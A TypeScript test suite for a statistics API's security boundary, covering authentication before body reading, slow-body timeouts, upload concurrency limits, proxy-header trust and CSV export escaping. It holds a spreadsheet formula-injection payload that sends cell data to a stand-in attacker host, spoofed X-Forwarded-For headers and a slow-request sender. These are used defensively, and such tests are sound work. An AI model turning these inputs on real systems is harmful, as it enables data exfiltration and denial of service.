import http from 'node:http';
import { readFileSync } from 'node:fs';
import net from 'node:net';
import pg from 'pg';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { createApiKey } from '../support/api-keys.js';
import { projectRoot } from '../../src/config/paths.js';
import { expectProblem, MALFORMED, TYPE_OF_STATUS } from '../support/problem.js';
import { startMain, type RunningApp } from '../support/processes.js';
import { startTestApp, type TestApp } from '../support/test-app.js';
import { until } from '../support/until.js';

/** What came back on a raw connection: the status line's code, the headers and the body, once the server has answered. */
interface RawAnswer {
  status: number;
  headers: string;
  body: string;
  /** Bytes of the request body written before the answer came. */
  sent: number;
}

/**
 * Sends a request's head, then its body in pieces (`piece` bytes each, the next when the socket has
 * taken the last), and stops sending as soon as an answer arrives.
 */
function rawRequest(baseUrl: string, head: string, bodyLength: number, piece: number): Promise<RawAnswer> {
  const { hostname, port } = new URL(baseUrl);
  return new Promise((resolve, reject) => {
    const socket = net.connect(Number(port), hostname);
    let received = '';
    let sent = 0;
    let answered = false;
    const finish = () => {
      const match = /^HTTP\/1\.1 (\d{3})/.exec(received);
      const [headers, body = ''] = received.split('\r\n\r\n');
      if (match) resolve({ status: Number(match[1]), headers, body, sent });
      else reject(new Error(`no HTTP answer: ${JSON.stringify(received.slice(0, 200))}`));
    };
    socket.setEncoding('utf8');
    socket.on('data', (chunk: string) => {
      received += chunk;
      // A whole answer: the head, and a body as long as Content-Length says.
      const length = /content-length: (\d+)/i.exec(received)?.[1];
      const [, body] = received.split('\r\n\r\n');
      if (!answered && length !== undefined && body !== undefined && Buffer.byteLength(body) >= Number(length)) {
        answered = true;
        finish();
        socket.destroy();
      }
    });
    socket.on('error', () => undefined);
    socket.on('close', () => !answered && finish());
    const sendMore = () => {
      if (answered || sent >= bodyLength || socket.destroyed) return;
      const size = Math.min(piece, bodyLength - sent);
      sent += size;
      socket.write('x'.repeat(size), () => setImmediate(sendMore));
    };
    socket.write(head, sendMore);
  });
}

const postHead = (length: number, authorization?: string) =>
  `POST /v1/sync/batches HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n${authorization ? `Authorization: ${authorization}\r\n` : ''}\r\n`;

describe('the trust boundary', () => {
  let t: TestApp;
  let key: string;
  beforeAll(async () => {
    t = await startTestApp('trust');
    key = await createApiKey(t.database.url, 'trust');
  });
  afterAll(() => t.close());

  it('refuses a write without a valid key when its headers arrive, before reading its body', async () => {
    const size = 60 * 1024 * 1024;
    // The body is sent a kilobyte at a time only after the last was taken: an answer before all of it means it was not waited for.
    for (const authorization of [undefined, 'Bearer rfa_00000000_not-a-key', 'Basic dXNlcjpwYXNz']) {
      const answer = await rawRequest(t.http, postHead(size, authorization), size, 1024);
      expect(answer.status).toBe(401);
      expect(answer.sent).toBeLessThan(size);
      expect(JSON.parse(answer.body)).toMatchObject({ type: TYPE_OF_STATUS[401], status: 401, instance: '/v1/sync/batches' });
      expect(answer.headers).toMatch(/www-authenticate: Bearer/i);
    }
  });

  it('takes the Bearer scheme in any case', async () => {
    for (const scheme of ['bearer', 'BEARER']) {
      const { body } = await request(t.http).post('/v1/sync/batches?dryRun=true').set('Authorization', `${scheme} ${key}`).send({ topics: [] }).expect(200);
      expect(body.status).toBe('dry_run');
    }
  });

  it('refuses writes that would change what stored figures mean, or store what no figure can be', async () => {
    const post = (batch: object) => request(t.http).post('/v1/sync/batches?dryRun=true').set('Authorization', `Bearer ${key}`).send(batch);
    // Zhejiang's enterprises visited are counted (596万家): as yuan they would be summed with loans.
    const indicators = JSON.parse(readFileSync(path.join(projectRoot, 'seeds/indicators.json'), 'utf8')) as { code: string; unit: string; measureType: string }[];
    const visited = indicators.find((i) => i.code === 'smb_outreach.enterprises_visited')!;
    const unit = expectProblem(await post({ indicators: [{ ...visited, unit: 'CNY' }] }), 422);
    // Its comparable indicators stay in count, which is named too.
    expect(unit.errors).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          pointer: '/indicators/0/unit',
          message: expect.stringMatching(/^smb_outreach\.enterprises_visited has \d+ published figures? in count .*Retract them first/),
        }),
      ]),
    );
    const measure = expectProblem(await post({ indicators: [{ ...visited, measureType: 'flow' }] }), 422);
    expect(measure.errors?.map((e) => e.pointer)).toEqual(['/indicators/0/measureType']);
    // The same indicator sent unchanged is fine.
    await post({ indicators: [visited] }).expect(200);

    const figure = { region: '330000', indicator: 'smb_outreach.enterprises_visited', asOf: '2026-04-30', asOfPrecision: 'month', asOfInferred: false, qualifier: 'exact' };
    const cite = { source: '002_caa4a03adb5becde', quote: 'trust boundary test' };
    const negative = expectProblem(await post({ observations: [{ ...figure, ...cite, value: -5, valuePrinted: '-5', unitPrinted: '家' }] }), 422);
    expect(negative.errors).toEqual([expect.objectContaining({ pointer: '/observations/0/value', message: expect.stringContaining('not a whole number of 0 or more') })]);
    const long = '1'.repeat(50);
    const digits = expectProblem(await post({ observations: [{ ...figure, ...cite, value: Number(long), valuePrinted: long, unitPrinted: '家' }] }), 422);
    expect(digits.errors).toEqual([expect.objectContaining({ pointer: '/observations/0/valuePrinted', message: expect.stringContaining('50 significant digits') })]);
    // Bytes that are not UTF-8 are refused, not stored as U+FFFD.
    const [before, after] = JSON.stringify({ observations: [{ ...figure, ...cite, value: 5, valuePrinted: '5', unitPrinted: '家', quote: 'A_B' }] }).split('_');
    const body = Buffer.concat([Buffer.from(before), Buffer.from([0xc3, 0x28]), Buffer.from(after)]);
    // fetch, not supertest: superagent would send a Buffer as JSON of its bytes.
    const invalid = await fetch(`${t.http}/v1/sync/batches?dryRun=true`, { method: 'POST', headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' }, body });
    expect(invalid.status).toBe(400);
    expect(await invalid.json()).toMatchObject({ type: MALFORMED, detail: expect.stringContaining('not valid UTF-8') });
  });

  it('answers a plain OPTIONS (no Origin) with 204, not a 400 in plain text', async () => {
    const options = await request(t.http).options('/v1/topics');
    expect(options.status).toBe(204);
    expect(options.text).toBe('');
  });

  it('answers 431 problem+json for headers over 16 KB', async () => {
    const body = expectProblem(await request(t.http).get('/v1/topics').set('X-Padding', 'x'.repeat(20_000)), 431);
    expect(body.detail).toContain('16 KB');
  });
});

describe('slow bodies and the client address', () => {
  let t: TestApp;
  const apps: RunningApp[] = [];
  beforeAll(async () => (t = await startTestApp('trust_limits')));
  afterAll(async () => {
    for (const app of apps) await app.stop();
    await t.close();
  });

  it('cuts a request that has not arrived whole within REQUEST_TIMEOUT_MS with 408 problem+json', async () => {
    const app = await startMain({ DATABASE_URL: t.database.url, REQUEST_TIMEOUT_MS: '1000' });
    apps.push(app);
    const key = await createApiKey(t.database.url, 'trust-slow');
    // One byte at a time, each after the last was taken, of a body far longer than a second of this allows.
    const answer = await rawRequest(app.baseUrl, postHead(10_000_000, `Bearer ${key}`), 10_000_000, 1);
    expect(answer.status).toBe(408);
    expect(JSON.parse(answer.body)).toMatchObject({ type: TYPE_OF_STATUS[408], status: 408, detail: expect.stringContaining('REQUEST_TIMEOUT_MS') });
  });

  it('receives at most two batches at once: a third is told 429 with Retry-After before its body is read', async () => {
    const [first, second, third] = await Promise.all(['trust-bound-1', 'trust-bound-2', 'trust-bound-3'].map((name) => createApiKey(t.database.url, name)));
    const { hostname, port } = new URL(t.http);
    // Two uploads that have sent their headers and a little of a large body, and then wait.
    const held = [first, second].map((key) => {
      const socket = net.connect(Number(port), hostname, () => socket.write(`${postHead(50_000_000, `Bearer ${key}`)}{"observations":[`));
      return socket;
    });
    const db = new pg.Client({ connectionString: t.database.url });
    await db.connect();
    const post = () =>
      fetch(`${t.http}/v1/sync/batches?dryRun=true`, { method: 'POST', headers: { authorization: `Bearer ${third}`, 'content-type': 'application/json' }, body: '{"topics":[]}' });
    try {
      // Each upload's key is checked (and marked used) just before it takes its place.
      await until(
        'both uploads are past their key check',
        async () => (await db.query(`SELECT count(*)::int AS n FROM api_keys WHERE name IN ('trust-bound-1', 'trust-bound-2') AND last_used_at IS NOT NULL`)).rows[0].n === 2,
      );
      const refused = await until('both uploads have their places', async () => {
        const response = await post();
        return response.status === 429 ? response : void (await response.arrayBuffer());
      });
      expect(await refused.json()).toMatchObject({ type: TYPE_OF_STATUS[429], detail: expect.stringContaining('receiving 2 batches already') });
      expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
    } finally {
      for (const socket of held) socket.destroy();
      await db.end();
    }
    await until('a batch is taken again', async () => (await post()).status === 200);
  });

  it('believes X-Forwarded-For only as far as the configured proxies: a client cannot pick its address', async () => {
    const app = await startMain({ DATABASE_URL: t.database.url, RATE_LIMIT_PER_MINUTE: '3', TRUST_PROXY: '1' });
    apps.push(app);
    // One proxy (this test) appends the address it saw; whatever the client wrote stands further left.
    const from = (i: number) => request(app.baseUrl).get('/v1/topics').set('X-Forwarded-For', `10.1.0.${i}, 203.0.113.7`);
    for (let i = 0; i < 3; i++) await from(i).expect(200);
    const refused = await from(3);
    const body = expectProblem(refused, 429);
    expect(body.detail).toMatch(/made its 3 requests for this minute; retry after \d+ s/);
    expect([refused.headers['x-ratelimit-limit'], refused.headers['x-ratelimit-remaining']]).toEqual(['3', '0']);
    expect(Number(refused.headers['x-ratelimit-reset'])).toBeGreaterThan(0);
    expect(Number(refused.headers['retry-after'])).toBeGreaterThan(0);
    // Another address behind the same proxy has its own allowance.
    await request(app.baseUrl).get('/v1/topics').set('X-Forwarded-For', '203.0.113.8').expect(200);
  });

  it('asks browsers for HTTPS only on what came over HTTPS, and believes X-Forwarded-Proto only from a trusted proxy', async () => {
    const proxied = await startMain({ DATABASE_URL: t.database.url, TRUST_PROXY: '1' });
    apps.push(proxied);
    const headers = async (base: string, proto?: string) => {
      const req = request(base).get('/v1/regions/330000');
      if (proto) req.set('X-Forwarded-Proto', proto);
      const response = await req.expect(200);
      return { hsts: response.headers['strict-transport-security'] !== undefined, upgrade: /upgrade-insecure-requests/.test(response.headers['content-security-policy']) };
    };
    // The same URL each time: a cached answer must not carry another request's protocol.
    expect(await headers(proxied.baseUrl, 'https')).toEqual({ hsts: true, upgrade: true });
    expect(await headers(proxied.baseUrl)).toEqual({ hsts: false, upgrade: false });
    expect(await headers(proxied.baseUrl, 'https')).toEqual({ hsts: true, upgrade: true });
    // Without TRUST_PROXY the header is the client's word, and a plain-HTTP page must stay usable.
    expect(await headers(t.http, 'https')).toEqual({ hsts: false, upgrade: false });

    // A proxy named by address: a client that reaches the instance directly and claims https is
    // answered (and cached) as plain HTTP, and that answer is never given to the proxy's https users.
    const named = await startMain({ DATABASE_URL: t.database.url, TRUST_PROXY: '127.0.0.2' });
    apps.push(named);
    const from = (localAddress: string) =>
      new Promise<{ hsts: boolean; cache: string }>((resolve, reject) => {
        const { hostname, port } = new URL(named.baseUrl);
        http
          .get({ host: hostname, port, path: '/v1/regions/320000', localAddress, headers: { 'x-forwarded-proto': 'https' } }, (response) => {
            response.resume();
            resolve({ hsts: response.headers['strict-transport-security'] !== undefined, cache: String(response.headers['x-cache']) });
          })
          .on('error', reject);
      });
    expect(await from('127.0.0.1')).toEqual({ hsts: false, cache: 'MISS' });
    expect(await from('127.0.0.2')).toEqual({ hsts: true, cache: 'MISS' });
    expect(await from('127.0.0.2')).toEqual({ hsts: true, cache: 'HIT' });
    expect(await from('127.0.0.1')).toEqual({ hsts: false, cache: 'HIT' });
  });

  it('writes CSV no spreadsheet would run as a formula, from observations, compare and rankings', async () => {
    const key = await createApiKey(t.database.url, 'trust-csv');
    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const figure = { region: '330000', indicator: 'smb_outreach.enterprises_visited', asOf: '2026-05-31', asOfPrecision: 'month', asOfInferred: false, qualifier: 'exact' };
    const row = { ...figure, value: 6_000_000, valuePrinted: '600', unitPrinted: '万家', source: '002_caa4a03adb5becde', quote: hostile, note: '@SUM(1)' };
    await request(t.http)
      .post('/v1/sync/batches')
      .set('Authorization', `Bearer ${key}`)
      .send({ observations: [row] })
      .expect(201);
    const urls = [
      '/v1/observations?region=330000&indicator=smb_outreach.enterprises_visited&format=csv',
      '/v1/compare?regions=330000,320000&indicators=smb_outreach.enterprises_visited&format=csv',
      '/v1/rankings/smb_outreach.enterprises_visited?format=csv',
    ];
    for (const url of urls) {
      const { text } = await request(t.http).get(url).expect(200);
      expect(text).toContain("'=HYPERLINK(");
      const cells: string[] = parse(text, { bom: true, relax_column_count: true }).flat();
      // A cell may start with - only as a negative number.
      expect(cells.filter((cell) => /^[=+@\t\r]|^-(?!\d)/.test(cell))).toEqual([]);
    }
  });
});
